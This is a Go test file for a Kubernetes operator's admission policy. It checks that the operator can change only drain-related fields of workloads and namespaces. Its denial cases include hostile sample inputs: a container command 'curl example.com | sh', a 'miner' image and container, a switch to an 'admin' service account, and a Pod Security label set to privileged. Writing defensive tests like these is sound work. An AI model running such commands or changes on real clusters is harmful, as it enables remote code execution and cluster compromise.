/*
Copyright 2026 The gracefuldrain Authors.

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

package controllers

import (
	"context"
	"strings"
	"testing"

	. "github.com/onsi/gomega"
	appsv1 "k8s.io/api/apps/v1"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	appsv1ac "k8s.io/client-go/applyconfigurations/apps/v1"
	corev1ac "k8s.io/client-go/applyconfigurations/core/v1"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"

	gdv1 "github.com/gracefuldrain/gracefuldrain/api/v1alpha1"
	"github.com/gracefuldrain/gracefuldrain/internal/awslb"
	"github.com/gracefuldrain/gracefuldrain/internal/discovery"
	"github.com/gracefuldrain/gracefuldrain/internal/plan"
	"github.com/gracefuldrain/gracefuldrain/internal/testsupport"
	"github.com/gracefuldrain/gracefuldrain/internal/workload"
)

// The install's field-level policy (config/policy, rendered from
// config/default) is in force for the whole suite: TestMain installs it and
// waits until the API server enforces it, and the suite's manager runs as the
// ServiceAccount it binds to. The tests below send requests as that
// ServiceAccount themselves, through a client of their own (not counted as
// the manager's writes).

const (
	workloadPolicy  = "ValidatingAdmissionPolicy 'gracefuldrain-operator-workload-fields'"
	namespacePolicy = "ValidatingAdmissionPolicy 'gracefuldrain-operator-namespace-label'"
)

func asOperator(t *testing.T) client.Client {
	t.Helper()
	c, err := client.New(operatorConfig, client.Options{Scheme: testScheme})
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// policyTarget creates, as a user, a namespace that is not opted in (the
// suite's manager leaves it alone) with a Pod Security label and a team
// label, and in it the Deployment "web": container "app" (image, command, an
// env var, port http 8080) and container "sidecar".
func policyTarget(t *testing.T) (string, *appsv1.Deployment) {
	t.Helper()
	ns := newNamespace(t, map[string]string{"team": "payments", "pod-security.kubernetes.io/enforce": "baseline"})
	d := testsupport.ALBApp(ns, "web").Deployment
	app := &d.Spec.Template.Spec.Containers[0]
	app.Image = "example/web:1"
	app.Command = []string{"/web", "--listen=:8080"}
	app.Env = []corev1.EnvVar{{Name: "MODE", Value: "production"}}
	d.Spec.Template.Spec.Containers = append(d.Spec.Template.Spec.Containers, testsupport.Container("sidecar"))
	NewWithT(t).Expect(k8s.Create(context.Background(), d)).To(Succeed())
	return ns, d
}

// albPlan is the plan the reconciler computes for "web" behind an ALB with
// ip targets (container app, port 8080, the ALB's default health check).
func albPlan(d *appsv1.Deployment, o plan.Overrides) plan.Plan {
	return albPlanFor(workload.OfDeployment(d), o)
}

// albPlanFor is albPlan for a workload of any kind.
func albPlanFor(w workload.Workload, o plan.Overrides) plan.Plan {
	att := discovery.Attachment{
		LoadBalancer: discovery.ALB, SourceKind: discovery.SourceIngress, SourceName: "web", ServiceName: "web", ServicePort: "80",
		TargetType: discovery.TargetIP, Container: "app", ContainerPort: 8080, DeregistrationDelaySeconds: 300,
		HealthCheck: gdv1.HealthCheck{Protocol: "HTTP", Path: "/", Port: "traffic-port", IntervalSeconds: 15, TimeoutSeconds: 5, HealthyThreshold: 2, UnhealthyThreshold: 2},
	}
	return plan.Compute(plan.Input{Workload: w, Attachments: []discovery.Attachment{att}, Defaults: suiteDefaults(), Overrides: o})
}

// applyPlan sends the plan exactly as the reconciler does (kinds.go).
func applyPlan(ctx context.Context, c client.Client, d *appsv1.Deployment, p plan.Plan) error {
	return c.Apply(ctx, plan.ApplyConfiguration(workload.OfDeployment(d), p), client.FieldOwner(plan.FieldManager), client.ForceOwnership)
}

// applyGateLabel sends the readiness-gate label exactly as the namespace
// labeler does (namespacelabel.go), plus extra labels and options.
func applyGateLabel(ctx context.Context, c client.Client, ns, value string, extra map[string]string, opts ...client.ApplyOption) error {
	labels := map[string]string{awslb.ReadinessGateInjectLabel: value}
	for k, v := range extra {
		labels[k] = v
	}
	return c.Apply(ctx, corev1ac.Namespace(ns).WithLabels(labels), append([]client.ApplyOption{client.FieldOwner(plan.FieldManager)}, opts...)...)
}

// The drain fields, sent as the operator sends them, are admitted: the plan,
// a no-op re-apply, a raised sleep, the operator's probe taken back, and the
// readiness-gate label. Nothing else of the objects changes.
func TestOperatorPolicyAdmitsTheDrainFields(t *testing.T) {
	g := NewWithT(t)
	ctx := context.Background()
	op := asOperator(t)
	ns, _ := policyTarget(t)
	before := getDeployment(g, ns, "web")

	g.Expect(applyPlan(ctx, op, before, albPlan(before, plan.Overrides{}))).To(Succeed())
	d := getDeployment(g, ns, "web")
	g.Expect(d.Generation).To(BeEquivalentTo(2))
	g.Expect(d.Spec.Template.Spec.TerminationGracePeriodSeconds).To(HaveValue(BeEquivalentTo(70)))
	g.Expect(d.Spec.Template.Spec.Containers[0].Lifecycle.PreStop.Sleep).To(Equal(&corev1.SleepAction{Seconds: 40}))
	g.Expect(d.Spec.Template.Spec.Containers[0].ReadinessProbe).NotTo(BeNil())
	for i, c := range before.Spec.Template.Spec.Containers {
		got := d.Spec.Template.Spec.Containers[i]
		g.Expect(got.Image).To(Equal(c.Image))
		g.Expect(got.Command).To(Equal(c.Command))
		g.Expect(got.Env).To(Equal(c.Env))
	}

	// The same apply again: admitted, and no new generation.
	g.Expect(applyPlan(ctx, op, d, albPlan(d, plan.Overrides{}))).To(Succeed())
	g.Expect(getDeployment(g, ns, "web").Generation).To(BeEquivalentTo(2))

	// A longer sleep (gracefuldrain.io/prestop-seconds: 60) raises the grace period.
	d = getDeployment(g, ns, "web")
	g.Expect(applyPlan(ctx, op, d, albPlan(d, plan.Overrides{PreStopSeconds: ptr.To[int32](60)}))).To(Succeed())
	d = getDeployment(g, ns, "web")
	g.Expect(d.Spec.Template.Spec.Containers[0].Lifecycle.PreStop.Sleep).To(Equal(&corev1.SleepAction{Seconds: 60}))
	g.Expect(d.Spec.Template.Spec.TerminationGracePeriodSeconds).To(HaveValue(BeEquivalentTo(90)))

	// gracefuldrain.io/readiness-probe: leave: the apply no longer sends the
	// probe, and server-side apply removes the one only the operator owned.
	g.Expect(applyPlan(ctx, op, d, albPlan(d, plan.Overrides{PreStopSeconds: ptr.To[int32](60), LeaveReadinessProbes: true}))).To(Succeed())
	g.Expect(getDeployment(g, ns, "web").Spec.Template.Spec.Containers[0].ReadinessProbe).To(BeNil())

	// The readiness-gate label, and nothing else of the namespace.
	g.Expect(applyGateLabel(ctx, op, ns, awslb.ReadinessGateInjectEnabled, nil)).To(Succeed())
	var n corev1.Namespace
	g.Expect(k8s.Get(ctx, types.NamespacedName{Name: ns}, &n)).To(Succeed())
	g.Expect(n.Labels).To(Equal(map[string]string{
		"kubernetes.io/metadata.name":        ns,
		"team":                               "payments",
		"pod-security.kubernetes.io/enforce": "baseline",
		awslb.ReadinessGateInjectLabel:       awslb.ReadinessGateInjectEnabled,
	}))
	// Re-applied once set: no change, admitted.
	g.Expect(applyGateLabel(ctx, op, ns, awslb.ReadinessGateInjectEnabled, nil)).To(Succeed())
}

// Anything else the operator's ServiceAccount sends is refused with the
// path of the field, through any verb, and changes nothing.
func TestOperatorPolicyDeniesEverythingElse(t *testing.T) {
	ctx := context.Background()
	op := asOperator(t)
	ns, _ := policyTarget(t)
	deploymentKey := types.NamespacedName{Namespace: ns, Name: "web"}
	// change edits a copy of the live Deployment and sends it as an update.
	change := func(edit func(d *appsv1.Deployment)) func() error {
		return func() error {
			var d appsv1.Deployment
			if err := k8s.Get(ctx, deploymentKey, &d); err != nil {
				return err
			}
			edit(&d)
			return op.Update(ctx, &d)
		}
	}
	// applyWith is the operator's own apply of the plan, with one more field.
	applyWith := func(edit func(ac *appsv1ac.DeploymentApplyConfiguration)) func() error {
		return func() error {
			var d appsv1.Deployment
			if err := k8s.Get(ctx, deploymentKey, &d); err != nil {
				return err
			}
			ac := plan.ApplyConfiguration(workload.OfDeployment(&d), albPlan(&d, plan.Overrides{}))
			edit(ac)
			return op.Apply(ctx, ac, client.FieldOwner(plan.FieldManager), client.ForceOwnership)
		}
	}
	patchNamespace := func(edit func(n *corev1.Namespace)) func() error {
		return func() error {
			var n corev1.Namespace
			if err := k8s.Get(ctx, types.NamespacedName{Name: ns}, &n); err != nil {
				return err
			}
			orig := n.DeepCopy()
			edit(&n)
			return op.Patch(ctx, &n, client.MergeFrom(orig))
		}
	}

	for _, tc := range []struct {
		name    string
		policy  string
		message string // the field the refusal must name
		send    func() error
	}{
		{"image, in the operator's own apply", workloadPolicy, "this request also changes spec.template.spec.containers[app].image",
			applyWith(func(ac *appsv1ac.DeploymentApplyConfiguration) {
				ac.Spec.Template.Spec.Containers[0].WithImage("example/miner:1")
			})},
		{"command", workloadPolicy, "this request also changes spec.template.spec.containers[app].command",
			change(func(d *appsv1.Deployment) {
				d.Spec.Template.Spec.Containers[0].Command = []string{"/bin/sh", "-c", "curl example.com | sh"}
			})},
		{"env var", workloadPolicy, "this request also changes spec.template.spec.containers[app].env",
			change(func(d *appsv1.Deployment) {
				d.Spec.Template.Spec.Containers[0].Env = append(d.Spec.Template.Spec.Containers[0].Env, corev1.EnvVar{Name: "DEBUG", Value: "1"})
			})},
		{"another container's image", workloadPolicy, "this request also changes spec.template.spec.containers[sidecar].image",
			change(func(d *appsv1.Deployment) { d.Spec.Template.Spec.Containers[1].Image = "example/miner:1" })},
		{"liveness probe", workloadPolicy, "this request also changes spec.template.spec.containers[app].livenessProbe",
			change(func(d *appsv1.Deployment) {
				d.Spec.Template.Spec.Containers[0].LivenessProbe = &corev1.Probe{ProbeHandler: corev1.ProbeHandler{Exec: &corev1.ExecAction{Command: []string{"true"}}}}
			})},
		{"postStart hook", workloadPolicy, "this request also changes spec.template.spec.containers[app].lifecycle.postStart",
			change(func(d *appsv1.Deployment) {
				d.Spec.Template.Spec.Containers[0].Lifecycle = &corev1.Lifecycle{PostStart: &corev1.LifecycleHandler{Sleep: &corev1.SleepAction{Seconds: 1}}}
			})},
		{"container added", workloadPolicy, "this request also changes spec.template.spec.containers[miner] (added)",
			change(func(d *appsv1.Deployment) {
				d.Spec.Template.Spec.Containers = append(d.Spec.Template.Spec.Containers, testsupport.Container("miner"))
			})},
		{"containers reordered", workloadPolicy, "this request also changes spec.template.spec.containers (order)",
			change(func(d *appsv1.Deployment) {
				c := d.Spec.Template.Spec.Containers
				c[0], c[1] = c[1], c[0]
			})},
		{"service account", workloadPolicy, "spec.template.spec.serviceAccountName",
			change(func(d *appsv1.Deployment) { d.Spec.Template.Spec.ServiceAccountName = "admin" })},
		{"replicas", workloadPolicy, "this request also changes spec.replicas",
			change(func(d *appsv1.Deployment) { d.Spec.Replicas = ptr.To[int32](0) })},
		{"a restart (pod template annotation)", workloadPolicy, "this request also changes spec.template.metadata",
			change(func(d *appsv1.Deployment) {
				d.Spec.Template.Annotations = map[string]string{"kubectl.kubernetes.io/restartedAt": "2026-01-01T00:00:00Z"}
			})},
		{"Deployment label", workloadPolicy, "this request also changes metadata.labels[team]",
			change(func(d *appsv1.Deployment) { d.Labels = map[string]string{"team": "other"} })},
		{"Deployment annotation", workloadPolicy, "this request also changes metadata.annotations[gracefuldrain.io/mode]",
			change(func(d *appsv1.Deployment) { d.Annotations = map[string]string{"gracefuldrain.io/mode": "off"} })},
		{"grace period lowered", workloadPolicy, "never lowers it: this request changes it from 30 to 10",
			change(func(d *appsv1.Deployment) { d.Spec.Template.Spec.TerminationGracePeriodSeconds = ptr.To[int64](10) })},
		{"Deployment created", workloadPolicy, "gracefuldrain never creates a Deployment",
			func() error { return op.Create(ctx, testsupport.ALBApp(ns, "other").Deployment) }},

		{"Pod Security label, with the gate label", namespacePolicy, "this request also changes metadata.labels[pod-security.kubernetes.io/enforce]",
			func() error {
				// Forced: the label is the namespace owner's (server-side apply
				// would otherwise answer with a conflict first).
				return applyGateLabel(ctx, op, ns, awslb.ReadinessGateInjectEnabled, map[string]string{"pod-security.kubernetes.io/enforce": "privileged"}, client.ForceOwnership)
			}},
		{"a second label, with the gate label", namespacePolicy, "this request also changes metadata.labels[gracefuldrain.io/mode]",
			func() error {
				return applyGateLabel(ctx, op, ns, awslb.ReadinessGateInjectEnabled, map[string]string{"gracefuldrain.io/mode": "enforce"})
			}},
		{"a label removed", namespacePolicy, "this request also changes metadata.labels[team]",
			patchNamespace(func(n *corev1.Namespace) { delete(n.Labels, "team") })},
		{"gate label with another value", namespacePolicy, `never change or remove it: this request changes it from (none) to "false"`,
			func() error { return applyGateLabel(ctx, op, ns, "false", nil) }},
		{"Namespace annotation", namespacePolicy, "this request also changes metadata.annotations[scheduler.alpha.kubernetes.io/node-selector]",
			patchNamespace(func(n *corev1.Namespace) {
				n.Annotations = map[string]string{"scheduler.alpha.kubernetes.io/node-selector": "pool=untrusted"}
			})},
		{"Namespace created", namespacePolicy, "gracefuldrain never creates a Namespace",
			func() error { return op.Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: ns + "-x"}}) }},
		// Last: if they were not refused, nothing would be left to test.
		{"Deployment deleted", workloadPolicy, "gracefuldrain never deletes a Deployment",
			func() error {
				return op.Delete(ctx, &appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "web"}})
			}},
		{"Namespace deleted", namespacePolicy, "gracefuldrain never deletes a Namespace",
			func() error { return op.Delete(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: ns}}) }},
	} {
		t.Run(tc.name, func(t *testing.T) {
			g := NewWithT(t)
			var d appsv1.Deployment
			var n corev1.Namespace
			g.Expect(k8s.Get(ctx, deploymentKey, &d)).To(Succeed())
			g.Expect(k8s.Get(ctx, types.NamespacedName{Name: ns}, &n)).To(Succeed())

			err := tc.send()
			g.Expect(apierrors.IsForbidden(err)).To(BeTrue(), "want refused by %s, got %v", tc.policy, err)
			g.Expect(err.Error()).To(ContainSubstring(tc.policy))
			g.Expect(err.Error()).To(ContainSubstring(tc.message))
			t.Logf("refused: %s", err.Error()[strings.Index(err.Error(), "denied request: ")+len("denied request: "):])

			var after appsv1.Deployment
			var nAfter corev1.Namespace
			g.Expect(k8s.Get(ctx, deploymentKey, &after)).To(Succeed())
			g.Expect(k8s.Get(ctx, types.NamespacedName{Name: ns}, &nAfter)).To(Succeed())
			g.Expect(after.ResourceVersion).To(Equal(d.ResourceVersion), "the Deployment changed")
			g.Expect(nAfter.ResourceVersion).To(Equal(n.ResourceVersion), "the Namespace changed")
			g.Expect(nAfter.DeletionTimestamp).To(BeNil())
		})
	}
}

// The policy judges the operator's own requests only. Users' writes (and
// what the admission webhook adds to them, which travels in the user's
// request) are not its business: a user's create and new image in an enforce
// namespace carry the plan from the webhook, and the operator writes nothing.
func TestOperatorPolicyLeavesUsersWritesToTheWebhook(t *testing.T) {
	g := NewWithT(t)
	ctx := context.Background()
	ns := newNamespace(t, enforce())
	lbFirst(t, ns)
	// The webhook answers from the manager's cache: wait for the namespace's
	// readiness-gate label (applied by the operator, admitted by the policy).
	eventually(t, func(g Gomega) {
		var n corev1.Namespace
		g.Expect(k8s.Get(ctx, types.NamespacedName{Name: ns}, &n)).To(Succeed())
		g.Expect(n.Labels).To(HaveKeyWithValue(awslb.ReadinessGateInjectLabel, awslb.ReadinessGateInjectEnabled))
	})
	d := testsupport.ALBApp(ns, "web").Deployment
	g.Expect(k8s.Create(ctx, d)).To(Succeed())
	g.Expect(d.Generation).To(BeEquivalentTo(1))
	carriesPlan(g, d)

	// A user's new image with the grace period a chart writes (30, below the
	// plan): the user's own change goes through, the webhook raises the grace.
	d.Spec.Template.Spec.Containers[0].Image = "example/web:2"
	d.Spec.Template.Spec.TerminationGracePeriodSeconds = ptr.To[int64](30)
	g.Expect(k8s.Update(ctx, d)).To(Succeed())
	g.Expect(d.Generation).To(BeEquivalentTo(2))
	g.Expect(d.Spec.Template.Spec.Containers[0].Image).To(Equal("example/web:2"))
	carriesPlan(g, d)
	g.Expect(operatorPatches(ns, "web")).To(BeEmpty(), "the webhook carried the plan: no operator write")
}

// StatefulSets and DaemonSets are held to the same fields: the plan, sent as
// the reconciler sends it for each kind, is admitted; an image riding along
// is refused with its path. (Argo Rollouts are held by the same rule once
// their CRD exists: kinds_test applies plans to them with this policy in
// force, and the suite fails on any refused manager write.)
func TestOperatorPolicyHoldsEveryKind(t *testing.T) {
	ctx := context.Background()
	op := asOperator(t)
	ns := newNamespace(t, nil)
	app := testsupport.ALBApp(ns, "web").Deployment
	owner := client.FieldOwner(plan.FieldManager)

	for _, tc := range []struct {
		kind   string
		create client.Object
		// applyPlan sends the plan for the live object, with an image when image != "".
		applyPlan func(image string) error
		get       func(g Gomega) (generation int64, grace *int64, image string)
	}{
		{kind: "StatefulSet",
			create: &appsv1.StatefulSet{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "db"},
				Spec: appsv1.StatefulSetSpec{Selector: app.Spec.Selector, Template: *app.Spec.Template.DeepCopy()}},
			applyPlan: func(image string) error {
				var s appsv1.StatefulSet
				if err := k8s.Get(ctx, types.NamespacedName{Namespace: ns, Name: "db"}, &s); err != nil {
					return err
				}
				w := workload.OfStatefulSet(&s)
				ac := plan.StatefulSetApplyConfiguration(w, albPlanFor(w, plan.Overrides{}))
				if image != "" {
					ac.Spec.Template.Spec.Containers[0].WithImage(image)
				}
				return op.Apply(ctx, ac, owner, client.ForceOwnership)
			},
			get: func(g Gomega) (int64, *int64, string) {
				var s appsv1.StatefulSet
				g.Expect(k8s.Get(ctx, types.NamespacedName{Namespace: ns, Name: "db"}, &s)).To(Succeed())
				return s.Generation, s.Spec.Template.Spec.TerminationGracePeriodSeconds, s.Spec.Template.Spec.Containers[0].Image
			}},
		{kind: "DaemonSet",
			create: &appsv1.DaemonSet{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "agent"},
				Spec: appsv1.DaemonSetSpec{Selector: app.Spec.Selector, Template: *app.Spec.Template.DeepCopy()}},
			applyPlan: func(image string) error {
				var d appsv1.DaemonSet
				if err := k8s.Get(ctx, types.NamespacedName{Namespace: ns, Name: "agent"}, &d); err != nil {
					return err
				}
				w := workload.OfDaemonSet(&d)
				ac := plan.DaemonSetApplyConfiguration(w, albPlanFor(w, plan.Overrides{}))
				if image != "" {
					ac.Spec.Template.Spec.Containers[0].WithImage(image)
				}
				return op.Apply(ctx, ac, owner, client.ForceOwnership)
			},
			get: func(g Gomega) (int64, *int64, string) {
				var d appsv1.DaemonSet
				g.Expect(k8s.Get(ctx, types.NamespacedName{Namespace: ns, Name: "agent"}, &d)).To(Succeed())
				return d.Generation, d.Spec.Template.Spec.TerminationGracePeriodSeconds, d.Spec.Template.Spec.Containers[0].Image
			}},
	} {
		t.Run(tc.kind, func(t *testing.T) {
			g := NewWithT(t)
			g.Expect(k8s.Create(ctx, tc.create)).To(Succeed())
			_, _, image := tc.get(g)

			err := tc.applyPlan("example/miner:1")
			g.Expect(apierrors.IsForbidden(err)).To(BeTrue(), "want refused by %s, got %v", workloadPolicy, err)
			g.Expect(err.Error()).To(ContainSubstring("gracefuldrain may change only the drain fields of a " + tc.kind))
			g.Expect(err.Error()).To(ContainSubstring("this request also changes spec.template.spec.containers[app].image"))
			generation, _, after := tc.get(g)
			g.Expect(generation).To(BeEquivalentTo(1))
			g.Expect(after).To(Equal(image))

			g.Expect(tc.applyPlan("")).To(Succeed())
			generation, grace, after := tc.get(g)
			g.Expect(generation).To(BeEquivalentTo(2))
			g.Expect(grace).To(HaveValue(BeEquivalentTo(70)))
			g.Expect(after).To(Equal(image))
		})
	}
}
